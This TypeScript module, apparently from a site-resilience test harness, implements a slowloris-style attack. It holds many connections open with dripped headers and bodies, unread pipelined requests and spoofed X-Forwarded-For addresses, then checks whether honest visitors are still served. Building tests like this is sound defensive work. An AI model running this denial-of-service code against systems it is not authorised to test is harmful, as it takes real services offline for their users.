import { setTimeout as pause } from "node:timers/promises";
import type { Socket } from "node:net";
import { aVisitor, honestVisitor, type AttackPromise } from "./promise.ts";
import { openConnection } from "./raw.ts";

/** Ways to hold a connection for nothing: what is sent first, and what follows every now and then. */
const ways: readonly { first: string; next: string; reads: boolean }[] = [
  { first: "GET / HTTP/1.1\r\nHost: shop\r\n", next: "X-A: b\r\n", reads: true },
  {
    first:
      "POST /api/v1/contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{",
    next: " ",
    reads: true,
  },
  {
    first:
      "POST /api/v1/job-applications HTTP/1.1\r\nHost: shop\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 3000000\r\n\r\n--x",
    next: "a",
    reads: true,
  },
  // Asks for a hundred large answers, and takes none of them.
  { first: "GET / HTTP/1.1\r\nHost: shop\r\n\r\n".repeat(100), next: "", reads: false },
  { first: "", next: "", reads: true },
];

/** Longer than a site waits for the headers of a request, with what its looks are apart, ms. */
const headersEnd = 100_000;

export const slowClients: AttackPromise = {
  name: "clients that send or read slowly",
  async attack(target, size) {
    const sockets: Socket[] = [];
    const broken: string[] = [];
    const headers: Socket[] = [];
    try {
      for (const { first, next, reads } of ways)
        for (let count = 0; count < 20 * size; count += 1) {
          const socket = await openConnection(target.url);
          if (!reads) socket.pause();
          socket.write(first.replace("Host: shop", `Host: shop\r\nX-Forwarded-For: ${aVisitor()}`));
          if (next !== "") {
            const drip = setInterval(() => socket.writable && socket.write(next), 100);
            socket.once("close", () => clearInterval(drip));
          }
          if (first.startsWith("GET") && reads) headers.push(socket);
          sockets.push(socket);
        }
      for (let round = 0; round < 5 * size; round += 1) {
        const fault = await honestVisitor(target);
        if (fault !== null) broken.push(fault);
        await pause(100);
      }
      if (size > 1) {
        const from = performance.now();
        while (headers.some(({ closed }) => !closed) && performance.now() - from < headersEnd)
          await pause(500);
        const open = headers.filter(({ closed }) => !closed).length;
        if (open > 0) broken.push(`${open} connections without whole headers are open after 100 s`);
      }
    } finally {
      for (const socket of sockets) socket.destroy();
    }
    return { tried: sockets.length, broken };
  },
};
